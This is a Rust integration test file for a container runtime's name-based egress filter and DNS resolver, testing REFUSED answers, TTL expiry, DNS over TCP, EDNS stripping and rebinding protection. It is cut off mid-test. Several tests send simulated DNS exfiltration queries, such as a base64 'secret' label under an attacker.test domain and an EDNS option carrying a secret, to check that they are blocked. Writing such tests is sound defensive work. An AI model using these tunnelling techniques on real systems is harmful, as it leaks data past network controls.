//! Egress by name (issue 18, threat T18): name entries in the allowlist
//! (`svc.moat.test tcp 8080`, `*.wild.moat.test tcp 8080`) served by
//! moat's resolver, with real containers through the `moat` binary.
//!
//! Run with:
//!
//! ```sh
//! cargo build --release -p moat
//! cargo test --release -p moat-integration --test egress_names -- --test-threads=1
//! ```
//!
//! Topology: as in `egress.rs` (an outside namespace joined by a veth pair
//! to the container's namespace, 10.231.X.1 inside, 10.231.X.2 outside).
//! The upstream resolver is this test's own DNS server on 10.231.X.2:53 in
//! the outside namespace: it answers every A query with 10.231.X.2 (the
//! only address it ever gives) and logs every name it is asked. Names
//! under `.moat.test` and `.attacker.test` exist only in this test.
//! Traffic only ever goes to loopback or the test's own addresses.

use std::collections::HashMap;
use std::fs;
use std::io::{Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::thread::JoinHandle;
use std::time::Duration;

use moat_integration::cmd::wait_for;
use moat_integration::network::*;
use moat_integration::*;

/// The test upstream: answers A queries with one address, with the TTL
/// of the first matching (suffix, ttl) pair or 600 s, and logs each name
/// and each query's bytes. It serves UDP and TCP (RFC 7766) on the same
/// address; over UDP, names starting with `big.` get an empty answer with
/// TC set (too large for UDP), so they resolve only over TCP.
struct Upstream {
    names: Arc<Mutex<Vec<String>>>,
    /// Names asked over TCP.
    tcp_names: Arc<Mutex<Vec<String>>>,
    /// Every query as received.
    raw: Arc<Mutex<Vec<Vec<u8>>>>,
    stop: Arc<AtomicBool>,
    handles: Vec<JoinHandle<()>>,
}

/// The upstream's answer to `q` (None: not a query it answers).
fn upstream_reply(
    q: &[u8],
    answer: Ipv4Addr,
    ttls: &HashMap<String, u32>,
    udp: bool,
) -> Option<Vec<u8>> {
    let name = qname(q).unwrap_or_default();
    let ttl = ttls
        .iter()
        .find(|(suffix, _)| name.ends_with(suffix.as_str()))
        .map(|(_, t)| *t)
        .unwrap_or(600);
    let mut reply = dns_reply(q, answer)?;
    if reply[7] == 1 {
        // dns_reply's answer ends with TTL(4) RDLENGTH(2) RDATA(4).
        let at = reply.len() - 10;
        reply[at..at + 4].copy_from_slice(&ttl.to_be_bytes());
        if udp && name.starts_with("big.") {
            reply.truncate(reply.len() - 16);
            reply[7] = 0;
            reply[2] |= 0x02;
        }
    }
    Some(reply)
}

impl Upstream {
    fn start(
        ns: &Path,
        addr: SocketAddr,
        answer: Ipv4Addr,
        ttls: HashMap<String, u32>,
    ) -> Upstream {
        let sock = in_netns(ns, || UdpSocket::bind(addr))
            .unwrap_or_else(|e| panic!("bind test upstream {addr}: {e}"));
        sock.set_read_timeout(Some(Duration::from_millis(20)))
            .unwrap();
        let listener = in_netns(ns, || TcpListener::bind(addr))
            .unwrap_or_else(|e| panic!("bind test upstream {addr} (tcp): {e}"));
        listener.set_nonblocking(true).unwrap();
        let names = Arc::new(Mutex::new(Vec::new()));
        let tcp_names = Arc::new(Mutex::new(Vec::new()));
        let raw = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (n, r, s, t) = (names.clone(), raw.clone(), stop.clone(), ttls.clone());
        let udp = std::thread::spawn(move || {
            let mut buf = [0u8; 2048];
            while !s.load(Ordering::SeqCst) {
                let Ok((len, peer)) = sock.recv_from(&mut buf) else {
                    continue;
                };
                let q = &buf[..len];
                n.lock().unwrap().push(qname(q).unwrap_or_default());
                r.lock().unwrap().push(q.to_vec());
                if let Some(reply) = upstream_reply(q, answer, &t, true) {
                    let _ = sock.send_to(&reply, peer);
                }
            }
        });
        let (n, tn, r, s) = (names.clone(), tcp_names.clone(), raw.clone(), stop.clone());
        let tcp = std::thread::spawn(move || {
            while !s.load(Ordering::SeqCst) {
                let Ok((mut conn, _)) = listener.accept() else {
                    std::thread::sleep(Duration::from_millis(10));
                    continue;
                };
                let _ = conn.set_nonblocking(false);
                let _ = conn.set_read_timeout(Some(Duration::from_secs(3)));
                let mut len = [0u8; 2];
                while conn.read_exact(&mut len).is_ok() {
                    let mut q = vec![0u8; usize::from(u16::from_be_bytes(len))];
                    if conn.read_exact(&mut q).is_err() {
                        break;
                    }
                    let name = qname(&q).unwrap_or_default();
                    n.lock().unwrap().push(name.clone());
                    tn.lock().unwrap().push(name);
                    r.lock().unwrap().push(q.clone());
                    let Some(reply) = upstream_reply(&q, answer, &ttls, false) else {
                        break;
                    };
                    let mut out = (reply.len() as u16).to_be_bytes().to_vec();
                    out.extend_from_slice(&reply);
                    if conn.write_all(&out).is_err() {
                        break;
                    }
                }
            }
        });
        Upstream {
            names,
            tcp_names,
            raw,
            stop,
            handles: vec![udp, tcp],
        }
    }

    fn asked(&self) -> Vec<String> {
        self.names.lock().unwrap().clone()
    }
}

impl Drop for Upstream {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        for h in self.handles.drain(..) {
            let _ = h.join();
        }
    }
}

/// The question's name of a query, lowercase.
fn qname(q: &[u8]) -> Option<String> {
    let mut i = 12;
    let mut labels = Vec::new();
    loop {
        let len = usize::from(*q.get(i)?);
        if len == 0 {
            break;
        }
        labels.push(String::from_utf8_lossy(q.get(i + 1..i + 1 + len)?).to_lowercase());
        i += 1 + len;
    }
    Some(labels.join("."))
}

/// The test's name policy: `svc.moat.test` and `*.wild.moat.test` may be
/// answered with the test's own (private) addresses; `*.rebind.moat.test`
/// may not (a public name answered with a private address: DNS
/// rebinding).
fn names_policy(env: &Env, upstream: Ipv4Addr) -> String {
    policy_file(
        env,
        "names.toml",
        &format!(
            "[egress]\nallow = [\"svc.moat.test tcp 8080\", \"*.wild.moat.test tcp 8080\", \"*.rebind.moat.test tcp 8080\"]\nresolvers = [\"{upstream}:53\"]\nname_ttl_min = 1\nprivate_answers = [\"svc.moat.test 10.231.0.0/16\", \"*.wild.moat.test 10.231.0.0/16\"]\n"
        ),
    )
}

/// Does busybox nslookup's output carry `addr` as an answer (not just as
/// the server's address, which it prints as `Address:\tADDR:53`)?
fn answered(text: &str, addr: Ipv4Addr) -> bool {
    let want = format!("Address: {addr}");
    text.lines().any(|l| l.trim() == want)
}

/// The resolver's directory under the env's state root.
fn resolver_dir(env: &Env) -> PathBuf {
    moat::resolver::dir(&canonical_root(Path::new(env.root_str())))
}

fn read_pid(path: &Path) -> Option<i32> {
    fs::read_to_string(path).ok()?.trim().parse().ok()
}

/// The elements of set `set` of moat's table in namespace `ns`.
fn set_text(ns: &Path, set: &str) -> String {
    let arg = format!("--net={}", ns.display());
    run_cmd(
        "nsenter",
        &[&arg, "nft", "list", "set", "inet", "moat", set],
    )
    .1
}

/// T18 by name: an allowed name resolves through moat's resolver and its
/// answer opens the connection; the same address without a lookup is
/// refused; the answer expires with its TTL; a wildcard allows strictly
/// subdomains; a name not allowed is REFUSED by moat and never reaches
/// the upstream (its own log says so), whichever server the container
/// asks. Deleting the last container stops the resolver and leaves
/// nothing behind.
#[test]
fn names_resolve_through_moat_and_only_their_answers_connect() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b = env.bundle(&["sleep", "300"]);
    let id = env.id("eg-names");
    let leak = env.leak_check(&id);
    let (supervisor, worker);
    {
        let _g = start_with(&env, &["--policy", &policy], &b, &id);
        let dir = resolver_dir(&env);
        supervisor = read_pid(&dir.join("supervisor.pid")).expect("no resolver supervisor pid");
        worker = read_pid(&dir.join("worker.pid")).expect("no resolver worker pid");
        assert!(process_alive(supervisor) && process_alive(worker));
        let mut net = Net::with(addrs, init_pid(&env, &id), false);
        let up = net.outside;
        let srv = net.tcp_server(false, 8080, "hello-by-name\n");
        let ttls = HashMap::from([("short.wild.moat.test".to_string(), 4)]);
        let upstream = Upstream::start(&net.ns_path(), SocketAddr::new(up.into(), 53), up, ttls);
        let pin = netns_pin(&leak);

        // An allowed address without a lookup: refused.
        assert_tcp_egress_refused_and_counted(&env, &id, &net, srv, 8080);

        // A short-lived answer: connects, then expires.
        let out = exec_sh(
            &env,
            &id,
            &format!(
                "timeout 10 nslookup short.wild.moat.test {up} 2>&1; echo \"NS=$?\"; {}",
                nc_probe("NC", up, 8080)
            ),
        );
        assert_eq!(exit_of(&out, "NS"), "0", "{out}");
        assert!(answered(&out.stdout, up), "{out}");
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
        assert!(out.stdout.contains("hello-by-name"), "{out}");
        assert!(set_text(&pin, "name1_v4").contains(&up.to_string()));
        wait_for("the answer to expire", Duration::from_secs(30), || {
            !set_text(&pin, "name1_v4").contains(&up.to_string())
        });
        assert_tcp_egress_refused_and_counted(&env, &id, &net, srv, 8080);

        // The exact name and a deeper subdomain resolve.
        for name in ["svc.moat.test", "a.b.wild.moat.test"] {
            let (code, text) = nslookup(&env, &id, name, up, None);
            assert_eq!(code, "0", "{name}: {text}");
            assert!(answered(&text, up), "{name}: {text}");
        }
        let out = exec_sh(&env, &id, &nc_probe("NC", up, 8080));
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
        // Another port of an answered address: not in the entry.
        let out = exec_sh(&env, &id, &nc_probe("NC", up, 8081));
        assert_ne!(exit_of(&out, "NC"), "0", "{out}");

        // Not allowed: the apex of the wildcard, a made-up exfiltration
        // name, a suffix trick. REFUSED by moat, never upstream.
        for name in [
            "wild.moat.test",
            "c2VjcmV0.attacker.test",
            "svc.moat.test.attacker.test",
        ] {
            // (busybox's exit code is not asserted here: what matters is
            // that moat said REFUSED and no address came back.)
            let (_, text) = nslookup(&env, &id, name, up, None);
            assert!(!answered(&text, up), "{name} resolved: {text}");
            assert!(text.contains("REFUSED"), "{name}: {text}");
        }
        std::thread::sleep(Duration::from_millis(300));
        let asked = upstream.asked();
        for name in asked.iter() {
            assert!(
                name.ends_with("moat.test")
                    && name != "wild.moat.test"
                    && !name.contains("attacker"),
                "the upstream was asked {name:?}: {asked:?}"
            );
        }
        for name in [
            "short.wild.moat.test",
            "svc.moat.test",
            "a.b.wild.moat.test",
        ] {
            assert!(
                asked.iter().any(|n| n == name),
                "{name} not forwarded: {asked:?}"
            );
        }
        let log = fs::read_to_string(dir.join("log")).unwrap_or_default();
        assert!(
            log.contains("c2VjcmV0.attacker.test"),
            "refused name not logged:\n{log}"
        );

        drop(upstream);
        close_and_delete(&env, net, &id);
    }
    verify_gone(&leak);
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        !process_alive(supervisor) && !process_alive(worker)
    });
    assert!(
        !resolver_dir(&env).exists(),
        "the resolver's directory is left"
    );
}

/// T18 by name, fail closed: with the resolver killed, the container's
/// lookups get no answer (the redirect stays, nothing listens) and do not
/// reach the upstream; the next create that needs the resolver starts it
/// again and it re-attaches the first container from moat's state; a
/// killed worker is restarted by its supervisor.
#[test]
fn a_killed_resolver_fails_closed_and_comes_back() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b1 = env.bundle(&["sleep", "300"]);
    let b2 = env.bundle(&["sleep", "300"]);
    let id1 = env.id("eg-names-kill1");
    let id2 = env.id("eg-names-kill2");
    let leak1 = env.leak_check(&id1);
    let leak2 = env.leak_check(&id2);
    let mut pids = Vec::new();
    let dir;
    {
        let _g1 = start_with(&env, &["--policy", &policy], &b1, &id1);
        dir = resolver_dir(&env);
        let net = Net::with(addrs, init_pid(&env, &id1), false);
        let up = net.outside;
        let upstream = Upstream::start(
            &net.ns_path(),
            SocketAddr::new(up.into(), 53),
            up,
            HashMap::new(),
        );
        let (code, text) = nslookup(&env, &id1, "svc.moat.test", up, None);
        assert_eq!(code, "0", "{text}");
        assert!(answered(&text, up), "{text}");

        let supervisor = read_pid(&dir.join("supervisor.pid")).unwrap();
        let worker = read_pid(&dir.join("worker.pid")).unwrap();
        pids.extend([supervisor, worker]);
        for pid in [supervisor, worker] {
            must("kill", &["-KILL", &pid.to_string()]);
        }
        wait_for("the resolver to die", Duration::from_secs(10), || {
            !process_alive(supervisor) && !process_alive(worker)
        });
        let before = upstream.asked().len();
        let (code, text) = nslookup(&env, &id1, "a.wild.moat.test", up, None);
        assert_ne!(code, "0", "resolved with the resolver dead: {text}");
        assert!(!answered(&text, up), "{text}");
        std::thread::sleep(Duration::from_millis(300));
        assert_eq!(
            upstream.asked().len(),
            before,
            "a query left while the resolver was dead"
        );

        // The next create brings it back, and it serves the first one too.
        let _g2 = start_with(&env, &["--policy", &policy], &b2, &id2);
        let (code, text) = nslookup(&env, &id1, "a.wild.moat.test", up, None);
        assert_eq!(code, "0", "not re-attached: {text}");

        // A killed worker alone is restarted by the supervisor.
        let supervisor = read_pid(&dir.join("supervisor.pid")).unwrap();
        let worker = read_pid(&dir.join("worker.pid")).unwrap();
        pids.extend([supervisor, worker]);
        must("kill", &["-KILL", &worker.to_string()]);
        wait_for("a new worker", Duration::from_secs(20), || {
            read_pid(&dir.join("worker.pid")).is_some_and(|p| p != worker && process_alive(p))
        });
        pids.push(read_pid(&dir.join("worker.pid")).unwrap());
        wait_for("lookups to work again", Duration::from_secs(30), || {
            nslookup(&env, &id1, "b.wild.moat.test", up, None).0 == "0"
        });

        drop(upstream);
        close_and_delete(&env, net, &id1);
        env.moat(&["delete", "--force", &id2]).assert_ok();
    }
    verify_gone(&leak1);
    verify_gone(&leak2);
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        pids.iter().all(|p| !process_alive(*p))
    });
    assert!(!dir.exists(), "the resolver's directory is left");
}

/// A DNS query for `name` (type A, RD, id `id`), with an OPT record (UDP
/// size 4096, DO) carrying `options` (code, data) when given, framed for
/// TCP (length-prefixed).
fn tcp_query(name: &str, id: u16, options: Option<&[(u16, &[u8])]>) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[1, 0, 0, 1, 0, 0, 0, 0, 0, u8::from(options.is_some())]);
    for label in name.split('.') {
        m.push(label.len() as u8);
        m.extend_from_slice(label.as_bytes());
    }
    m.extend_from_slice(&[0, 0, 1, 0, 1]);
    if let Some(options) = options {
        let rdata: Vec<u8> = options
            .iter()
            .flat_map(|(code, data)| {
                let mut o = code.to_be_bytes().to_vec();
                o.extend_from_slice(&(data.len() as u16).to_be_bytes());
                o.extend_from_slice(data);
                o
            })
            .collect();
        m.extend_from_slice(&[0, 0, 41, 0x10, 0, 0, 0, 0x80, 0]);
        m.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        m.extend_from_slice(&rdata);
    }
    let mut framed = (m.len() as u16).to_be_bytes().to_vec();
    framed.extend(m);
    framed
}

/// Sends `bytes` over one TCP connection from inside container `id` to
/// `server`:53 (busybox `printf | nc`, which half-closes after its input
/// and prints what comes back until the server closes) and returns the
/// DNS messages that came back.
fn tcp_exchange(env: &Env, id: &str, server: Ipv4Addr, bytes: &[u8]) -> Vec<Vec<u8>> {
    let escaped: String = bytes.iter().map(|b| format!("\\{b:03o}")).collect();
    let out = exec_sh(
        env,
        id,
        &format!("printf '{escaped}' | nc -w 5 {server} 53 | od -An -v -tx1; echo END"),
    );
    assert!(out.stdout.contains("END"), "{out}");
    let got: Vec<u8> = out
        .stdout
        .split_whitespace()
        .take_while(|w| *w != "END")
        .map(|h| u8::from_str_radix(h, 16).unwrap_or_else(|_| panic!("not hex {h:?}: {out}")))
        .collect();
    let mut msgs = Vec::new();
    let mut i = 0;
    while i + 2 <= got.len() {
        let len = usize::from(u16::from_be_bytes([got[i], got[i + 1]]));
        assert!(i + 2 + len <= got.len(), "a cut message: {got:?}");
        msgs.push(got[i + 2..i + 2 + len].to_vec());
        i += 2 + len;
    }
    msgs
}

fn rcode(msg: &[u8]) -> u8 {
    msg[3] & 0x0f
}

/// Does the answer carry an A record of `addr` (its last record, as the
/// test upstream writes it)?
fn answers_with(msg: &[u8], addr: Ipv4Addr) -> bool {
    msg.len() > 16 && msg[6..8] != [0, 0] && msg.ends_with(&addr.octets())
}

/// Runs `check` against a running container (id prefix `prefix`) under
/// [`names_policy`], wired to a test network whose outside address runs
/// the test [`Upstream`] on port 53; then deletes everything and checks
/// nothing is left.
fn with_named_container(prefix: &str, check: impl FnOnce(&Env, &str, &mut Net, &Upstream, &Path)) {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let b = env.bundle(&["sleep", "300"]);
    let id = env.id(prefix);
    let leak = env.leak_check(&id);
    {
        let _g = start_with(&env, &["--policy", &policy], &b, &id);
        let mut net = Net::with(addrs, init_pid(&env, &id), false);
        let up = net.outside;
        let upstream = Upstream::start(
            &net.ns_path(),
            SocketAddr::new(up.into(), 53),
            up,
            HashMap::new(),
        );
        check(&env, &id, &mut net, &upstream, &netns_pin(&leak));
        drop(upstream);
        close_and_delete(&env, net, &id);
    }
    verify_gone(&leak);
}

/// T18, DNS over TCP (RFC 7766), from inside a real container: one
/// connection carries an allowed name (answered, and its address then
/// connects) and a made-up one (REFUSED, never upstream); a name whose
/// answer is too large for UDP upstream is fetched again over TCP; over
/// UDP the client is told to retry over TCP (no address).
#[test]
fn dns_over_tcp_is_served_with_the_same_rules() {
    with_named_container("eg-names-tcp", |env, id, net, upstream, _| {
        let up = net.outside;
        let srv = net.tcp_server(false, 8080, "hello-over-tcp\n");
        assert_tcp_egress_refused_and_counted(env, id, net, srv, 8080);

        let mut bytes = tcp_query("svc.moat.test", 0x1111, None);
        bytes.extend(tcp_query("c2VjcmV0.attacker.test", 0x2222, None));
        let msgs = tcp_exchange(env, id, up, &bytes);
        assert_eq!(msgs.len(), 2, "{msgs:?}");
        assert_eq!(&msgs[0][..2], &[0x11, 0x11]);
        assert_eq!(rcode(&msgs[0]), 0, "{:?}", msgs[0]);
        assert!(answers_with(&msgs[0], up), "{:?}", msgs[0]);
        assert_eq!(&msgs[1][..2], &[0x22, 0x22]);
        assert_eq!(rcode(&msgs[1]), 5, "not REFUSED: {:?}", msgs[1]);
        let out = exec_sh(env, id, &nc_probe("NC", up, 8080));
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
        assert!(out.stdout.contains("hello-over-tcp"), "{out}");

        // Truncated over UDP upstream: fetched again over TCP.
        let msgs = tcp_exchange(env, id, up, &tcp_query("big.wild.moat.test", 0x3333, None));
        assert_eq!(msgs.len(), 1, "{msgs:?}");
        assert!(answers_with(&msgs[0], up), "{:?}", msgs[0]);
        assert!(
            upstream
                .tcp_names
                .lock()
                .unwrap()
                .iter()
                .any(|n| n == "big.wild.moat.test"),
            "not asked over TCP upstream"
        );
        // Over UDP: an empty truncated answer, no address.
        let (_, text) = nslookup(env, id, "big.wild.moat.test", up, None);
        assert!(!answered(&text, up), "{text}");

        std::thread::sleep(Duration::from_millis(300));
        let asked = upstream.asked();
        assert!(
            !asked.iter().any(|n| n.contains("attacker")),
            "a refused name reached the upstream: {asked:?}"
        );
        assert!(asked.iter().any(|n| n == "svc.moat.test"), "{asked:?}");
    });
}

/// T18, red-team pass 4 F5 (EDNS): a client's EDNS options (client
/// subnet, cookie, padding, a made-up option carrying a secret), its
/// header bits and its name's letter case never reach the upstream: the
/// upstream's own log of the bytes it received holds a plain OPT record
/// and the lowercase name only; the client still gets its answer.
#[test]
fn client_edns_options_never_reach_the_upstream() {
    with_named_container("eg-names-edns", |env, id, net, upstream, _| {
        let up = net.outside;
        let secret: &[u8] = b"s3cr3t-payload";
        let options: &[(u16, &[u8])] = &[
            (8, &[0, 1, 24, 0, 10, 1, 2]),
            (10, b"01234567s3cr3t-cookie"),
            (12, &[0x5a; 40]),
            (65001, secret),
        ];
        let mut query = tcp_query("SvC.MoAt.TeSt", 0x4444, Some(options));
        query[5] |= 0x30; // AD and CD (header byte 3, after the 2-byte frame)
        let msgs = tcp_exchange(env, id, up, &query);
        assert_eq!(msgs.len(), 1, "{msgs:?}");
        assert!(answers_with(&msgs[0], up), "{:?}", msgs[0]);
        // The client's own spelling comes back.
        assert_eq!(&msgs[0][13..16], b"SvC", "{:?}", msgs[0]);

        let raw = upstream.raw.lock().unwrap().clone();
        assert_eq!(raw.len(), 1, "{raw:?}");
        let q = &raw[0];
        let name_end = 12 + "svc.moat.test".len() + 2;
        assert_eq!(&q[2..4], &[1, 0], "header bits passed on: {q:?}");
        assert_eq!(&q[13..16], b"svc", "letter case passed on: {q:?}");
        assert_eq!(&q[10..12], &[0, 1], "one additional record: {q:?}");
        // The OPT record: root, type 41, size 1232, DO kept, no options.
        assert_eq!(
            &q[name_end + 4..],
            &[0, 0, 41, 0x04, 0xd0, 0, 0, 0x80, 0, 0, 0],
            "the OPT record is not plain: {q:?}"
        );
        assert!(
            !q.windows(secret.len()).any(|w| w == secret),
            "the secret reached the upstream: {q:?}"
        );
    });
}

/// T18, red-team pass 4 F5 (DNS rebinding): a name whose answer is a
/// private address (here the test's own 10.231.X.2) and that
/// `egress.private_answers` does not name gets no address: it is dropped
/// from the answer, never reaches the entry's set, and the connection is
/// refused; the same address answered for a name the policy lets answer
/// it connects.
#[test]
fn private_answers_for_other_names_are_dropped() {
    with_named_container("eg-names-rebind", |env, id, net, upstream, pin| {
        let up = net.outside;
        let srv = net.tcp_server(false, 8080, "hello\n");
        let (_, text) = nslookup(env, id, "inside.rebind.moat.test", up, None);
        assert!(
            !answered(&text, up),
            "the private answer got through: {text}"
        );
        assert!(upstream
            .asked()
            .iter()
            .any(|n| n == "inside.rebind.moat.test"));
        assert!(
            !set_text(pin, "name2_v4").contains(&up.to_string()),
            "the private answer went into the set"
        );
        assert_tcp_egress_refused_and_counted(env, id, net, srv, 8080);
        let log = fs::read_to_string(resolver_dir(env).join("log")).unwrap_or_default();
        assert!(log.contains("not globally reachable"), "{log}");

        let (code, text) = nslookup(env, id, "svc.moat.test", up, None);
        assert_eq!(code, "0", "{text}");
        assert!(answered(&text, up), "{text}");
        let out = exec_sh(env, id, &nc_probe("NC", up, 8080));
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");
    });
}

/// [`verify_gone`] for a container deleted while the resolver (processes
/// `resolver`) still serves another one: those are not its leak.
#[track_caller]
fn verify_gone_but_resolver(leak: &LeakCheck, resolver: &[i32]) {
    let mut left: Vec<String> = leak
        .leaks()
        .into_iter()
        .filter(|l| {
            !resolver
                .iter()
                .any(|p| l.starts_with(&format!("process {p} ")))
        })
        .collect();
    left.extend(netns_leaks(leak));
    assert!(
        left.is_empty(),
        "container {} leaked:\n  {}",
        leak.id,
        left.join("\n  ")
    );
}

/// T18 in a shared network namespace (issue 18 item 3): a container
/// joining another's namespace with the same egress policy gets its name
/// entries served (by the one serving of that namespace); one with other
/// name entries is refused with a one-line error; deleting the joiner
/// keeps the owner served; deleting the owner stops the resolver and
/// leaves nothing.
#[test]
fn name_entries_are_served_once_in_a_shared_namespace() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let other = policy_file(
        &env,
        "other-names.toml",
        &format!(
            "[egress]\nallow = [\"svc.moat.test tcp 8080\"]\nresolvers = [\"{}:53\"]\n",
            addrs.outside()
        ),
    );
    let mut owner_b = env.bundle(&["sleep", "300"]);
    owner_b.annotate("moat.dev/joinable", "true");
    let owner = env.id("eg-names-owner");
    let joiner = env.id("eg-names-joiner");
    let refused = env.id("eg-names-other");
    let leak_owner = env.leak_check(&owner);
    let dir = resolver_dir(&env);
    let (supervisor, worker);
    {
        let _g1 = start_with(&env, &["--policy", &policy], &owner_b, &owner);
        let leak_joiner = env.leak_check(&joiner);
        let leak_refused = env.leak_check(&refused);
        supervisor = read_pid(&dir.join("supervisor.pid")).expect("no supervisor");
        worker = read_pid(&dir.join("worker.pid")).expect("no worker");
        let pid1 = init_pid(&env, &owner);
        let ns1 = format!("/proc/{pid1}/ns/net");
        let mut net = Net::with(addrs, pid1, false);
        let up = net.outside;
        let srv = net.tcp_server(false, 8080, "hello-shared\n");
        let upstream = Upstream::start(
            &net.ns_path(),
            SocketAddr::new(up.into(), 53),
            up,
            HashMap::new(),
        );

        // Other name entries: refused, nothing left.
        let mut other_b = env.bundle(&["sleep", "300"]);
        other_b.join_namespace("network", &ns1);
        {
            let _g = env.guard(&refused);
            env.moat(&[
                "--policy",
                &other,
                "create",
                "--bundle",
                other_b.path(),
                &refused,
            ])
            .assert_fails_with("different egress policy");
        }
        verify_gone_but_resolver(&leak_refused, &[supervisor, worker]);

        let mut joiner_b = env.bundle(&["sleep", "300"]);
        joiner_b.join_namespace("network", &ns1);
        let _g2 = start_with(&env, &["--policy", &policy], &joiner_b, &joiner);
        // One serving for the namespace: the same worker, one thread.
        assert_eq!(read_pid(&dir.join("worker.pid")), Some(worker));
        let threads = || {
            fs::read_dir(format!("/proc/{worker}/task"))
                .unwrap()
                .flatten()
                .filter(|t| {
                    fs::read_to_string(t.path().join("comm")).is_ok_and(|c| c.starts_with("dns-"))
                })
                .count()
        };
        assert_eq!(threads(), 1, "the namespace is served more than once");
        assert_tcp_egress_refused_and_counted(&env, &joiner, &net, srv, 8080);
        let (code, text) = nslookup(&env, &joiner, "svc.moat.test", up, None);
        assert_eq!(code, "0", "{text}");
        assert!(answered(&text, up), "{text}");
        let out = exec_sh(&env, &joiner, &nc_probe("NC", up, 8080));
        assert_eq!(exit_of(&out, "NC"), "0", "{out}");

        // The joiner goes (the owner's delete would take the pod's
        // members with it); the owner is still served.
        env.moat(&["delete", "--force", &joiner]).assert_ok();
        verify_gone_but_resolver(&leak_joiner, &[supervisor, worker]);
        assert!(
            process_alive(worker),
            "the resolver stopped with the joiner"
        );
        assert_eq!(threads(), 1, "the namespace's serving stopped");
        let (code, text) = nslookup(&env, &owner, "a.wild.moat.test", up, None);
        assert_eq!(code, "0", "the owner lost its resolver: {text}");
        assert!(answered(&text, up), "{text}");
        let (_, text) = nslookup(&env, &owner, "c2VjcmV0.attacker.test", up, None);
        assert!(text.contains("REFUSED"), "{text}");
        std::thread::sleep(Duration::from_millis(300));
        assert!(
            !upstream.asked().iter().any(|n| n.contains("attacker")),
            "{:?}",
            upstream.asked()
        );

        drop(upstream);
        close_and_delete(&env, net, &owner);
    }
    verify_gone(&leak_owner);
    wait_for("the resolver to stop", Duration::from_secs(10), || {
        !process_alive(supervisor) && !process_alive(worker)
    });
    assert!(!dir.exists(), "the resolver's directory is left");
}

/// The resolver's supervisor and worker pids (None while it is down).
fn resolver_pids(env: &Env) -> Option<(i32, i32)> {
    let dir = resolver_dir(env);
    Some((
        read_pid(&dir.join("supervisor.pid"))?,
        read_pid(&dir.join("worker.pid"))?,
    ))
}

/// T40 (R6-7): the node-wide resolver owes nothing to the create that
/// started it. A first create runs in a throwaway job cgroup (pids,
/// memory) with a soft `ulimit -n 64`: the resolver's processes are in moat's
/// own `moat-system/resolver` cgroup of every hierarchy, with their own
/// limits, environment and directory. Killing the job's cgroup then
/// leaves the job cgroup removable (nothing of moat's in it), and another
/// container's create and its allowed lookup work.
#[test]
fn the_resolver_owes_nothing_to_the_create_that_started_it() {
    let env = Env::new();
    let addrs = Addrs::next();
    let policy = names_policy(&env, addrs.outside());
    let a = env.bundle(&["sleep", "300"]);
    let b = env.bundle(&["sleep", "300"]);
    let a_id = env.id("rs-starter");
    let b_id = env.id("rs-other");
    let leak_a = env.leak_check(&a_id);
    let leak_b = env.leak_check(&b_id);
    let job = format!("moat-test-job-{}", std::process::id());
    let jobs: Vec<PathBuf> = ["pids", "memory"]
        .iter()
        .map(|h| Path::new("/sys/fs/cgroup").join(h))
        .filter(|h| h.join("cgroup.procs").exists())
        .map(|h| h.join(&job))
        .collect();
    assert!(!jobs.is_empty(), "no v1 pids/memory hierarchy");
    /// Removes the job cgroups also when the test fails.
    struct JobCgroups(Vec<PathBuf>);
    impl Drop for JobCgroups {
        fn drop(&mut self) {
            for j in &self.0 {
                for p in fs::read_to_string(j.join("cgroup.procs"))
                    .unwrap_or_default()
                    .lines()
                {
                    let _ = run_cmd("kill", &["-KILL", p]);
                }
                let _ = fs::remove_dir(j);
            }
        }
    }
    let _job_guard = JobCgroups(jobs.clone());
    for j in &jobs {
        fs::create_dir(j).unwrap();
    }
    let remove_jobs = |jobs: &[PathBuf]| {
        for j in jobs {
            for p in fs::read_to_string(j.join("cgroup.procs"))
                .unwrap_or_default()
                .lines()
            {
                let _ = run_cmd("kill", &["-KILL", p]);
            }
        }
        wait_for("the job cgroups to empty", Duration::from_secs(20), || {
            jobs.iter().all(|j| {
                fs::read_to_string(j.join("cgroup.procs")).is_ok_and(|s| s.trim().is_empty())
            })
        });
        for j in jobs {
            fs::remove_dir(j).unwrap_or_else(|e| panic!("{}: {e}", j.display()));
        }
    };
    let mut resolver = Vec::new();
    {
        let _ga = env.guard(&a_id);
        let join: String = jobs
            .iter()
            .map(|j| format!("echo $$ > {}/cgroup.procs; ", j.display()))
            .collect();
        let script = format!(
            "{join}ulimit -Sn 64; cd /tmp; umask 002; exec env MOAT_TEST_STARTER=1 {} --root {} --policy {policy} create --bundle {} {a_id}",
            moat_bin().display(),
            env.root_str(),
            a.path()
        );
        let err_file = std::env::temp_dir().join(format!("{a_id}.stderr"));
        let status = std::process::Command::new("sh")
            .args(["-c", &script])
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::null())
            .stderr(fs::File::create(&err_file).unwrap())
            .status()
            .unwrap();
        let err = fs::read_to_string(&err_file).unwrap_or_default();
        let _ = fs::remove_file(&err_file);
        assert!(status.success(), "the starter's create failed: {err}");
        env.moat(&["start", &a_id]).assert_ok();
        let (supervisor, worker) = resolver_pids(&env).expect("the resolver runs");
        resolver.extend([supervisor, worker]);
        for pid in [supervisor, worker] {
            let cgroups = fs::read_to_string(format!("/proc/{pid}/cgroup")).unwrap();
            for line in cgroups.lines() {
                assert!(
                    line.ends_with("/moat-system/resolver"),
                    "resolver process {pid} in a cgroup not moat's own: {line}\n{cgroups}"
                );
            }
